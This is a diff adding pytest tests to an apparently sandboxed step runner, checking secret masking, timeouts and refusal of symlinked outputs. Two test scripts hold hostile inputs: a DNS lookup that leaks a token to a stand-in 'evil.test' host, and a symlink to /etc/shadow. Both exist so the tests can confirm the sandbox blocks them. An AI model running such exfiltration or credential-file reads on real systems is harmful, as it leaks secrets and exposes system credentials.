@@ -247,3 +247,41 @@ curl -fsS http://{other.ip}:8080/by-ip > out/ip.json
     assert run.result.record["flows"]["audit"] >= 3
     # Internal addresses stay closed in audit mode: that is sandbox integrity, not policy.
     assert {h["path"] for h in other.hits(_client(), run.started)} == {"/by-name", "/by-ip"}
+
+
+def test_secrets_never_reach_logs_events_or_records(
+        run_step: Any, monkeypatch: pytest.MonkeyPatch, internet: Internet) -> None:
+    secret = "s3cr3t-token-value-42"
+    monkeypatch.setenv("TEST_TOKEN", secret)
+    script = """
+mkdir -p out
+echo "token is $TEST_TOKEN"
+python3 -c "import socket, os; socket.getaddrinfo(os.environ['TEST_TOKEN'] + '.evil.test', 80)" \
+  || true
+echo done > out/done
+"""
+    run = run_step(_step("secret", script, [], secrets=["TEST_TOKEN"]))
+    assert run.result.exit_code == 1  # the exfiltration attempt was denied
+    log = (run.out / "logs" / "secret.log").read_text()
+    assert "token is ***" in log
+    for path in run.out.rglob("*"):
+        if path.is_file():
+            assert secret not in path.read_text(errors="replace"), path
+    assert _denied(run, kind="dns", name="***.evil.test")
+
+
+def test_timeout_kills_the_step_and_still_copies_outputs(run_step: Any) -> None:
+    script = "mkdir -p out && echo partial > out/partial && sleep 60"
+    spec = _step("slow", script, [])
+    spec["resources"] = {"timeout": 2}
+    run = run_step(spec)
+    assert run.result.exit_code == 1
+    assert run.result.record["step"]["status"] == "timeout"
+    assert run.output("out/partial").strip() == "partial"
+
+
+def test_symlinked_output_is_refused(run_step: Any) -> None:
+    run = run_step(_step("links", "mkdir -p out && ln -s /etc/shadow out/loot", []))
+    assert run.result.exit_code == 1
+    assert "link" in run.result.record["step"]["reason"]
+    assert not (run.out / "outputs" / "out" / "loot").exists()
